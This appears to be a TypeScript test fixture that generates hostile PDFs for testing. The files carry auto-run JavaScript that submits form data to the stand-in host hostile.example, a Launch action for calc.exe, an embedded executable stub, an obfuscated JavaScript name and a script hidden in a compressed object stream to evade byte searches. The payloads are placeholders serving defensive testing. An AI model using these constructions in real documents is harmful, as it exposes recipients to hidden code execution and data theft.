// Makes PDFs that act when they are opened, as a hostile sender would: scripts, launches, attachments, forms, media and links.
import { deflateSync } from 'node:zlib';

/** Writes objects, the first of which is the catalog, as a PDF with its list of objects. */
export function pdfOf(objects: readonly string[]): Uint8Array<ArrayBuffer> {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) text += `${String(offset).padStart(10, '0')} 00000 n \n`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(text, 'latin1'));
}
const stream = (dictionary: string, content: string) =>
  `<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream`;
const script = "app.alert('hostile'); this.submitForm('https://hostile.example')";

/** A certificate of one page with a filled field, which tries everything that a PDF can do beside being looked at. */
export const hostilePdf = (): Uint8Array<ArrayBuffer> =>
  pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> /Names << /JavaScript << /Names [(a) 5 0 R] >> /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> /AcroForm << /Fields [8 0 R] /XFA 10 0 R /CO [8 0 R] >> /Metadata 14 0 R >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 400 300] >>',
    '<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 13 0 R >> >> /Contents 4 0 R /AA << /O 5 0 R >> /Annots [8 0 R 9 0 R 11 0 R 12 0 R] /AF [6 0 R] >>',
    stream('', 'BT /F1 24 Tf 40 200 Td (Certificado de conclusao) Tj ET'),
    `<< /Type /Action /S /J#61vaScript /JS (${script.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`,
    '<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>',
    stream('/Type /EmbeddedFile', 'MZ hostile program'),
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (nome) /V (Lia Aluna) /Rect [40 100 200 130] /F 4 /AP << /N 15 0 R >> /A 5 0 R /AA << /K 5 0 R >> /Parent 16 0 R >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 400 300] /A << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >> >>',
    stream('', '<xdp:xdp><script>hostile</script></xdp:xdp>'),
    '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << /Assets << /Names [(evil.swf) 6 0 R] >> >> /AP << /N 15 0 R >> >>',
    '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 6 0 R /AP << /N 15 0 R >> >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    stream('/Type /Metadata /Subtype /XML', '<x:xmpmeta>author Lia</x:xmpmeta>'),
    stream(
      '/Type /XObject /Subtype /Form /BBox [0 0 160 30] /Resources << /Font << /F1 13 0 R >> >> /OPI << /2.0 << /F (evil) >> >>',
      'BT /F1 12 Tf 2 10 Td (Lia Aluna) Tj ET',
    ),
    '<< /JS (hostile) /Launch (hostile) >>',
  ]);
/** The same script inside a compressed list of objects, where a search of the bytes does not find it. */
export function hiddenScriptPdf(): Uint8Array<ArrayBuffer> {
  const inner = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
    '<< /S /JavaScript /JS (hostile) >>',
  ];
  let offset = 0;
  const heads = inner.map((one, at) => {
    const head = `${at + 1} ${offset}`;
    offset += one.length + 1;
    return head;
  });
  const first = `${heads.join(' ')} `;
  const packed = deflateSync(Buffer.from(first + inner.join(' '), 'latin1')).toString('latin1');
  const object = `5 0 obj\n<< /Type /ObjStm /N 4 /First ${first.length} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n`;
  const head = '%PDF-1.5\n';
  const rows = [
    [0, 0, 255],
    ...[0, 1, 2, 3].map((at) => [2, 5, at]),
    [1, head.length, 0],
    [1, head.length + object.length, 0],
  ];
  const table = deflateSync(
    Buffer.from(rows.flatMap(([kind, where, at]) => [kind!, where! >> 8, where! & 255, at!])),
  ).toString('latin1');
  const list = `6 0 obj\n<< /Type /XRef /Size 7 /Root 1 0 R /W [1 2 1] /Filter /FlateDecode /Length ${table.length} >>\nstream\n${table}\nendstream\nendobj\n`;
  return new Uint8Array(
    Buffer.from(`${head}${object}${list}startxref\n${head.length + object.length}\n%%EOF\n`, 'latin1'),
  );
}
